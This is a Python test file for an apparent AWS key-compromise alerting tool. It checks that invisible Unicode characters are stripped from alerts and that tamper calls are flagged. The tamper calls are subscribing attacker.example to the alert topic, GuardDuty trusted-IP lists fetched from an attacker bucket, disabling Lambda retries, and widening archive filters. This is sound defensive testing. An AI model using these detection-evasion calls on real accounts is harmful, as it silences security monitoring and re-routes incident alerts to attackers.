"""Smaller doors a key holder uses against keyguard: attacker-written text in every copy of a notice, and
the calls that read, mute or silence keyguard's topic, functions and GuardDuty without touching a rule."""

from __future__ import annotations

import copy
import json
import unicodedata
from typing import Any

import pytest

from tests.behaviour.test_more_signals import _chat_inbox
from tests.behaviour.test_tamper_resources import (
    ATTACKER_IP,
    DEPLOYER,
    STACK,
    _critical,
    _function,
    watched,  # noqa: F401 - the fixture the tamper tests share
)
from tests.conftest import deliver, inbox, load_event

# Right-to-left override (reverses what follows: "exe.jpg" reads "gpj.exe"), a zero-width space, a
# zero-width joiner, a left-to-right isolate, a byte-order mark and a line separator: each invisible or
# re-ordering in a mail or chat client.
HIDDEN = ("\u202e", "\u200b", "\u200d", "\u2066", "\ufeff", "\u2028")


def _invisible(text: str) -> list[str]:
    """Every invisible or re-ordering character in the text, a line break excepted."""
    hidden = {f"U+{ord(ch):04X}" for ch in text if unicodedata.category(ch) in ("Cf", "Cc", "Zl", "Zp")}
    return sorted(hidden - {"U+000A"})


def test_bidi_and_zero_width_text_reaches_no_copy_of_the_notice(account, monkeypatch) -> None:
    """A finding whose user agent, caller IP and user name carry U+202E and zero-width characters: the text
    part (e-mail), the JSON part (SQS, Lambda, HTTPS), chat and Security Hub show none of them."""
    chat_topic, read_chat = _chat_inbox(account)
    monkeypatch.setenv("KEYGUARD_CHAT_TOPIC_ARN", chat_topic)
    monkeypatch.setenv("KEYGUARD_SECURITY_HUB", "true")
    event = copy.deepcopy(load_event("guardduty-s3-malicious-ip.json"))
    call = event["detail"]["service"]["action"]["awsApiCallAction"]
    call["userAgent"] = "aws-cli/2.15 \u202eexe.gpj\u202c zero\u200bwidth" + "".join(HIDDEN)
    call["remoteIpDetails"]["ipAddressV4"] = "198.51.100.23\u200b\u202e"
    call["remoteIpDetails"]["organization"]["asnOrg"] = "EXAMPLE\u2066-AS\u2069"
    event["detail"]["resource"]["accessKeyDetails"]["userName"] = "ali\u202ece"
    _, (inv,) = deliver(account, event)
    assert inv.error is None
    (published,) = inv.published
    parts = json.loads(published["Message"])
    assert set(parts) >= {"default", "email", "sqs", "lambda", "https", "email-json"}
    text = parts["default"]
    assert "aws-cli/2.15 exe.gpj zerowidth" in text  # shown, without what hides or reorders it
    assert "198.51.100.23" in text
    copies = {
        "subject": published["Subject"],
        **{protocol: body for protocol, body in parts.items()},
        # the JSON part decoded: an escaped "\u202e" in it is the character again once parsed
        "json": json.dumps(json.loads(parts["sqs"]), ensure_ascii=False),
        "chat": json.dumps(read_chat(), ensure_ascii=False),
        "securityhub": json.dumps(account.clients.get("securityhub").get_findings()["Findings"], ensure_ascii=False),
    }
    assert "ali" in copies["chat"] and "ali" in copies["securityhub"]  # both were sent and name the user
    assert {name: _invisible(body) for name, body in copies.items() if _invisible(body)} == {}


# ---------------------------------------------------------------- calls that read, mute or silence keyguard
#
# Each: the attacker's own boto3 call in the emulated account (where moto has it), then the CloudTrail record
# it causes, built from a copy of an existing tamper-*.json (same envelope and identity, admin-carol from
# 198.51.100.23), through template.yaml's rules to the tamper watch; the topic gets one critical message
# naming the actor and the call, and keyguard's own deployer making the same call gets none.
#
# Record shapes (eventSource, eventName, requestParameters in the API's lower camel case):
# - SNS `Subscribe`: eventSource sns.amazonaws.com, requestParameters topicArn, protocol, endpoint,
#   returnSubscriptionArn, responseElements subscriptionArn. AWS SNS developer guide "Logging Amazon SNS API
#   calls using CloudTrail" (Subscribe in the list of logged actions; topicArn in its sample records);
#   allcloud-io/TrustStack-Data-Perimeter-Security-Packages types/cloudtrail-events.d.ts (SNSSubscribeEventDetail).
#   The attacker's call is Rhino Security's Pacu module sns__subscribe.
# - SNS `PutDataProtectionPolicy`: requestParameters resourceArn, dataProtectionPolicy (API_PutDataProtectionPolicy
#   parameters ResourceArn, DataProtectionPolicy; "CloudTrail captures all API calls for SNS as events", same
#   guide). Not verified against a captured record. moto 5 has no PutDataProtectionPolicy: the event only.
# - Lambda `PutFunctionEventInvokeConfig`, `UpdateFunctionEventInvokeConfig`, `DeleteFunctionEventInvokeConfig`:
#   eventSource lambda.amazonaws.com, requestParameters functionName, maximumRetryAttempts,
#   maximumEventAgeInSeconds (Lambda API reference; the operations' path is /2019-09-25/functions/.../
#   event-invoke-config). Lambda logged dated event names until 2021 (events/README.md), so the watch matches
#   by prefix and the tests use the undated name AWS logs today and a dated one.
# - GuardDuty `CreateIPSet` / `UpdateIPSet`: eventSource guardduty.amazonaws.com, eventName as the API
#   (Panther's AWS.IPSet.Modified rule tests: eventname CreateIPSet / UpdateIPSet, eventsource
#   guardduty.amazonaws.com); requestParameters detectorId, name, format, location, activate, ipSetId (API
#   parameters). The attacker's call is Pacu's guardduty__whitelist_ip; GuardDuty's guide: "GuardDuty doesn't
#   generate findings for IP addresses that are included in IPSets". moto 5 has no IP sets: the event only.
# - GuardDuty `UpdateFilter`: requestParameters detectorId, filterName, findingCriteria and, only when changed,
#   action (API_UpdateFilter: Action is optional).

TRUSTED_LIST = "https://s3.amazonaws.com/attacker-bucket/trusted.txt"


def _call(file: str, name: str, request: dict, response: dict | None = None) -> dict:
    """A copy of an existing tamper record, made into `name` with these request parameters."""
    event = copy.deepcopy(load_event(file))
    event["detail"]["eventName"] = name
    event["detail"]["requestParameters"] = request
    event["detail"]["responseElements"] = response
    return event


def _by_deployer(event: dict) -> dict:
    event = copy.deepcopy(event)
    deploy = load_event("tamper-deployer-update-function.json")["detail"]
    event["detail"]["userIdentity"] = deploy["userIdentity"]
    event["detail"]["sourceIPAddress"] = deploy["sourceIPAddress"]
    event["detail"]["eventID"] = event["detail"]["eventID"][:-4] + "dep1"
    return event


def _published(account: Any, event: dict) -> list[dict]:
    """What the tamper watch publishes for the event, delivered again under a new event id."""
    again = copy.deepcopy(event)
    again["detail"]["eventID"] = again["detail"]["eventID"][:-4] + "agn1"
    _, invocations = deliver(account, again, seed=False)
    inbox(account)  # drained
    return invocations[0].published


def _alerted_once_and_not_for_the_deployer(account: Any, event: dict) -> dict:
    _, invocations = deliver(account, event, seed=False)
    assert [i.rule.function for i in invocations] == ["TamperWatchFunction"] and invocations[0].error is None
    doc = _critical(inbox(account), event["detail"]["eventName"])
    _, invocations = deliver(account, _by_deployer(event), seed=False)
    assert invocations[0].result["tamper"]["outcome"] == "ignored"
    assert inbox(account) == []
    return doc


def test_a_new_subscriber_on_keyguard_s_topic_is_announced(watched: Any) -> None:  # noqa: F811
    sns = watched.clients.get("sns")
    endpoint = "incidents@attacker.example"  # email: moto records it, nothing leaves the machine
    sub = sns.subscribe(TopicArn=watched.topic_arn, Protocol="email", Endpoint=endpoint, ReturnSubscriptionArn=True)
    endpoints = [s["Endpoint"] for s in sns.list_subscriptions_by_topic(TopicArn=watched.topic_arn)["Subscriptions"]]
    assert endpoint in endpoints  # the attacker's call worked: every incident would reach that address
    event = _call(
        "tamper-unsubscribe.json",
        "Subscribe",
        {"topicArn": watched.topic_arn, "protocol": "email", "endpoint": endpoint, "returnSubscriptionArn": True},
        {"subscriptionArn": sub["SubscriptionArn"]},
    )
    doc = _alerted_once_and_not_for_the_deployer(watched, event)
    assert doc["target"]["name"] == watched.topic_arn
    assert endpoint in doc["request"]  # the reader's address is in the alert, quoted as data
    (text,) = [json.loads(m["Message"])["default"] for m in _published(watched, event)]
    assert f"aws sns unsubscribe --subscription-arn {sub['SubscriptionArn']}" in text


def test_a_subscriber_on_another_topic_is_not_keyguard_s(watched: Any) -> None:  # noqa: F811
    other = watched.clients.get("sns").create_topic(Name="payments-events")["TopicArn"]
    event = _call("tamper-unsubscribe.json", "Subscribe", {"topicArn": other, "protocol": "email", "endpoint": "a@b.c"})
    _, invocations = deliver(watched, event, seed=False)
    assert invocations[0].result["tamper"]["outcome"] == "ignored"
    assert inbox(watched) == []


def test_a_data_protection_policy_on_keyguard_s_topic_is_announced(watched: Any) -> None:  # noqa: F811
    # moto has no PutDataProtectionPolicy: the record alone. A Deny on outbound data makes Publish fail for
    # every message that matches it (for accounts that used the feature before AWS closed it to new ones).
    policy = {
        "Name": "quiet",
        "Version": "2021-06-01",
        "Statement": [
            {
                "Sid": "deny-all-outbound",
                "DataDirection": "Outbound",
                "Principal": ["*"],
                "DataIdentifier": ["arn:aws:dataprotection::aws:data-identifier/AwsSecretKey"],
                "Operation": {"Deny": {}},
            }
        ],
    }
    event = _call(
        "tamper-unsubscribe.json",
        "PutDataProtectionPolicy",
        {"resourceArn": watched.topic_arn, "dataProtectionPolicy": json.dumps(policy)},
    )
    doc = _alerted_once_and_not_for_the_deployer(watched, event)
    assert doc["target"] == {"kind": "topic", "name": watched.topic_arn, "newName": None}


@pytest.mark.parametrize(
    "name",
    [
        "PutFunctionEventInvokeConfig",
        "UpdateFunctionEventInvokeConfig",
        "DeleteFunctionEventInvokeConfig",
        "PutFunctionEventInvokeConfig20190925",  # a dated name, as Lambda logged until 2021
    ],
)
def test_retries_turned_off_on_a_keyguard_function_are_announced(watched: Any, name: str) -> None:  # noqa: F811
    lam = watched.clients.get("lambda")
    function = _function(watched, f"{STACK}-GuardDutyFunction-1A2B3C4D5E6F")
    request: dict[str, Any] = {"functionName": function}
    if name.startswith("Delete"):
        lam.put_function_event_invoke_config(FunctionName=function, MaximumRetryAttempts=2)
        lam.delete_function_event_invoke_config(FunctionName=function)  # the attacker's call
    else:
        request |= {"maximumRetryAttempts": 0, "maximumEventAgeInSeconds": 60}
        if name.startswith("Update"):  # moto 5 accepts the update but keeps the old values: not read back
            lam.put_function_event_invoke_config(FunctionName=function, MaximumRetryAttempts=2)
            lam.update_function_event_invoke_config(
                FunctionName=function, MaximumRetryAttempts=0, MaximumEventAgeInSeconds=60
            )
        else:  # the attacker's call: no retry, a minute's age, no destination
            lam.put_function_event_invoke_config(
                FunctionName=function, MaximumRetryAttempts=0, MaximumEventAgeInSeconds=60
            )
            assert lam.get_function_event_invoke_config(FunctionName=function)["MaximumRetryAttempts"] == 0
    event = _call("tamper-put-function-concurrency.json", name, request, None)
    doc = _alerted_once_and_not_for_the_deployer(watched, event)
    assert doc["target"]["name"] == function


def test_retries_turned_off_on_another_function_are_not_keyguard_s(watched: Any) -> None:  # noqa: F811
    event = _call("tamper-put-function-concurrency.json", "PutFunctionEventInvokeConfig", {"functionName": "payments"})
    _, invocations = deliver(watched, event, seed=False)
    assert invocations[0].result["tamper"]["outcome"] == "ignored"
    assert inbox(watched) == []


@pytest.mark.parametrize("name", ["CreateIPSet", "UpdateIPSet"])
def test_a_trusted_ip_list_in_guardduty_is_announced(watched: Any, name: str) -> None:  # noqa: F811
    # moto has no GuardDuty IP sets: the record alone (Pacu guardduty__whitelist_ip makes this call). Any
    # detector: GuardDuty's findings concern every deployment, like DeleteDetector.
    detector = watched.clients.get("guardduty").create_detector(Enable=True)["DetectorId"]
    request = {"detectorId": detector, "name": "office", "format": "TXT", "location": TRUSTED_LIST, "activate": True}
    response = {"ipSetId": "0cb0141ab9fbde177613ab9436212e90"}
    if name == "UpdateIPSet":
        request = {"detectorId": detector, "ipSetId": response["ipSetId"], "location": TRUSTED_LIST, "activate": True}
        response = None
    event = _call("tamper-delete-detector.json", name, request, response)
    doc = _alerted_once_and_not_for_the_deployer(watched, event)
    assert doc["target"] == {"kind": "detector", "name": detector, "newName": None}
    assert TRUSTED_LIST in doc["request"] and doc["actor"]["sourceIPAddress"] == ATTACKER_IP
    (text,) = [json.loads(m["Message"])["default"] for m in _published(watched, event)]
    assert f"--detector-id {detector} --ip-set-id 0cb0141ab9fbde177613ab9436212e90 --no-activate" in text


def test_an_existing_suppression_rule_given_new_criteria_is_announced(watched: Any) -> None:  # noqa: F811
    """UpdateFilter of an existing ARCHIVE filter with new criteria and no `action` field (the watch used to
    ask for action = ARCHIVE, so this call passed unseen)."""
    gd = watched.clients.get("guardduty")
    detector = gd.create_detector(Enable=True)["DetectorId"]
    narrow = {"Criterion": {"type": {"Eq": ["Recon:EC2/PortProbeUnprotectedPort"]}}}
    gd.create_filter(DetectorId=detector, Name="quiet-probes", Action="ARCHIVE", FindingCriteria=narrow)
    everything_keyguard_reads = {"Criterion": {"resource.resourceType": {"Eq": ["AccessKey"]}}}
    gd.update_filter(DetectorId=detector, FilterName="quiet-probes", FindingCriteria=everything_keyguard_reads)
    got = gd.get_filter(DetectorId=detector, FilterName="quiet-probes")
    assert got["Action"] == "ARCHIVE" and got["FindingCriteria"] == everything_keyguard_reads
    request = {
        "detectorId": detector,
        "filterName": "quiet-probes",
        "findingCriteria": {"criterion": {"resource.resourceType": {"eq": ["AccessKey"]}}},
    }
    event = _call("tamper-create-filter-archive.json", "UpdateFilter", request, {"name": "quiet-probes"})
    assert "action" not in event["detail"]["requestParameters"]
    doc = _alerted_once_and_not_for_the_deployer(watched, event)
    assert doc["target"]["name"] == detector
    (text,) = [json.loads(m["Message"])["default"] for m in _published(watched, event)]
    assert f"aws guardduty get-filter --detector-id {detector} --filter-name quiet-probes" in text


def test_the_deployer_fixture_is_the_configured_role() -> None:
    """The exemption the tests above rely on is the configured deployer role, nothing in the event's text."""
    issuer = load_event("tamper-deployer-update-function.json")["detail"]["userIdentity"]["sessionContext"]
    assert issuer["sessionIssuer"]["arn"] == DEPLOYER
